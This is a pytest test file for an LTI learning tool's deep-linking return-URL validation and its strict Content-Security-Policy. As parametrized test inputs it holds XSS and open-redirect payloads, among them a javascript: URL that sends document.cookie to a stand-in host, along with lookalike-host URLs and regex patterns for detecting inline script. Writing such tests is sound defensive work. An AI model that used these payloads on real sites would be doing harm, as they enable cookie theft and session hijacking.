"""Issue 13, high: the deep-linking return URL is checked before the launch is accepted, and every page carries a
strict Content-Security-Policy with no inline script or style anywhere in the tool's templates."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from lti_tool.launch.launch_log import recent_launch_events
from lti_tool.launch.return_url import ReturnUrlPolicy, check_return_url
from lti_tool.registrations import RegistrationView
from tests.grades.conftest import World
from tests.lti.platform import DL, INSTRUCTOR
from web.errors import LaunchRefused

ROOT = Path(__file__).resolve().parents[2]
REG = RegistrationView(1, "https://moodle.lycee.fr", "c", "https://moodle.lycee.fr/mod/lti/auth.php",
                       "https://moodle.lycee.fr/mod/lti/token.php", "https://keys.lycee.fr/certs", True,
                       frozenset({"1"}))


@pytest.mark.parametrize("url", [
    "javascript:alert(document.cookie)", "JavaScript:alert(1)", "data:text/html,<script>alert(1)</script>",
    " javascript:alert(1)", "java\tscript:alert(1)", "https://evil.example/steal", "http://moodle.lycee.fr/x",
    "https://user:pw@moodle.lycee.fr/x", "https://moodle.lycee.fr.evil.example/x", "//moodle.lycee.fr/x",
    "https://moodle.lycee.fr:99999/x", "https://[::1/x", "https://moodle.lycee.fr/" + "a" * 3000,
])
def test_unsafe_return_urls_are_refused(url: str) -> None:
    with pytest.raises(LaunchRefused) as refused:
        check_return_url(url, REG, ReturnUrlPolicy())
    assert refused.value.status == 400 and refused.value.code == "bad_return_url"
    assert url not in refused.value.reason  # an untrusted value is never echoed


@pytest.mark.parametrize("url", [
    "https://moodle.lycee.fr/mod/lti/contentitem_return.php?course=2", "https://MOODLE.lycee.fr/x",
    "https://keys.lycee.fr/return", "https://moodle.lycee.fr:8443/x",
])
def test_https_return_urls_on_the_registration_hosts_are_accepted(url: str) -> None:
    assert check_return_url(url, REG, ReturnUrlPolicy()) == url


def test_the_allow_list_and_loopback_http_in_development() -> None:
    policy = ReturnUrlPolicy.from_settings("cdn.ac-test.fr, *.ent.example", "https://pix.example")
    assert check_return_url("https://cdn.ac-test.fr/r", REG, policy)
    assert check_return_url("https://a.b.ent.example/r", REG, policy)
    with pytest.raises(LaunchRefused):
        check_return_url("https://ent.example.evil/r", REG, policy)
    local = RegistrationView(2, "http://127.0.0.1:8001", "c", "http://127.0.0.1:8001/auth", "http://127.0.0.1:8001/t",
                             "http://127.0.0.1:8001/jwks", True, frozenset())
    assert check_return_url("http://127.0.0.1:8001/r", local, ReturnUrlPolicy.from_settings("", "http://127.0.0.1"))
    with pytest.raises(LaunchRefused):  # a tool served over https is not in development
        check_return_url("http://127.0.0.1:8001/r", local, ReturnUrlPolicy.from_settings("", "https://pix.example"))


def _deep_launch(world: World, return_url: str) -> Any:
    def settings(claims: dict[str, Any]) -> None:
        claims[DL + "deep_linking_settings"]["deep_link_return_url"] = return_url

    return world.tool.launch(mutate=settings, sub="prof-9", roles=[INSTRUCTOR], message_type="LtiDeepLinkingRequest",
                             offer_ags=False)


def test_a_deep_linking_launch_with_a_javascript_return_url_is_refused_and_logged(world: World) -> None:
    response = _deep_launch(world, "javascript:fetch('//evil.example/?'+document.cookie)")
    assert response.status_code == 400
    assert "adresse de retour de la sélection de contenu est refusée" in response.text
    assert "javascript:" not in response.text
    assert world.tool.count(world.platform.issuer)["accounts"] == 0  # nothing created
    store = world.tool.client.app.state.tool.store  # the reason is in the admin area's recent refusals
    events = world.tool.client.portal.call(recent_launch_events, store)  # type: ignore[attr-defined]
    assert [e.code for e in events if e.outcome == "refused"] == ["bad_return_url"]


def test_a_return_url_on_another_host_is_refused(world: World) -> None:
    response = _deep_launch(world, "https://attacker.example/collect")
    assert response.status_code == 400 and "serveur de la plateforme enregistrée" in response.text


def test_the_return_page_may_post_only_to_the_platform_and_has_no_inline_script(world: World) -> None:
    response = _deep_launch(world, world.platform.issuer + "/deeplink/return")
    location = response.headers["location"]
    launch_id = re.search(r"/lti/selection/([^?]+)\?", location).group(1)
    token = re.search(r"lt=([^&]+)", location).group(1)
    page = world.tool.client.get(location)
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    assert "form-action 'self';" in page.headers["content-security-policy"] + ";"
    done = world.tool.client.post(f"/lti/selection/{launch_id}", data={"lt": token, "csrf": csrf, "item": "profile"})
    csp = done.headers["content-security-policy"]
    assert f"form-action 'self' {world.platform.issuer}" in csp
    assert "script-src 'self'" in csp and "<script>" not in done.text
    assert '<script src="/static/outil/retour.js"></script>' in done.text


_INLINE = [
    (re.compile(r"<script(?![^>]*\ssrc=)[^>]*>", re.I), "inline <script>"),
    (re.compile(r"\son[a-z]+\s*=", re.I), "on* event handler"),
    (re.compile(r"\sstyle\s*=", re.I), "style attribute"),
    (re.compile(r"<style", re.I), "inline <style>"),
    (re.compile(r"javascript:", re.I), "javascript: URL"),
]


def test_no_template_served_by_the_tool_has_inline_script_or_style() -> None:
    found = []
    for template in sorted((ROOT / "lti_tool" / "templates").rglob("*.html")):
        text = template.read_text(encoding="utf-8")
        found += [f"{template.relative_to(ROOT)}: {what}" for pattern, what in _INLINE if pattern.search(text)]
    assert found == []


def _policy(response: Any) -> dict[str, str]:
    return {d.split()[0]: d.strip() for d in response.headers["content-security-policy"].split(";") if d.strip()}


def test_every_kind_of_page_has_the_strict_policy(world: World) -> None:
    client = world.tool.client
    launched = world.tool.launch()
    pages = {
        "student": client.get(launched.headers["location"], follow_redirects=True),
        "not found": client.get("/nulle-part"),
        "refusal": client.post("/lti/launch", data={"state": "x", "id_token": "y"}),
        "admin login": client.get("/admin/login"),
        "gar metadata-less login": client.get("/gar/login"),
        "registration": client.get("/lti/register"),
    }
    for name, response in pages.items():
        policy = _policy(response)
        assert policy.get("default-src") == "default-src 'self'", name
        assert policy.get("script-src") == "script-src 'self'", name
        assert policy.get("style-src") == "style-src 'self'", name
        assert policy.get("form-action", "").startswith("form-action 'self'"), name
        assert "frame-ancestors" in policy, name
        assert not re.search(r"<script(?![^>]*\ssrc=)[^>]*>", response.text), name
